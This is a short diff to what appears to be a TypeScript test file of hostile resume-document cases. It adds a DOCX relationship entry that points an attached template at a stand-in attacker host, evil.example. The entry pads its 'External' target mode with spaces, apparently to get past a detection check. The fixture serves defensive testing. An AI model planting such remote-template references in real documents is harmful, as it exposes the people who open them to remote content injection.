@@ -136,6 +136,11 @@ export const hostileParts: ResumeCase[] = [
     docxClaim,
   ],
   [
+    'a template with room around its mode',
+    relation('Type="http://x/attachedTemplate" Target="https://evil.example/t" TargetMode=" External "'),
+    docxClaim,
+  ],
+  [
     'an object that is named a picture',
     relation('Type="http://x/oleObject" Target="media/a.png"'),
     docxClaim,
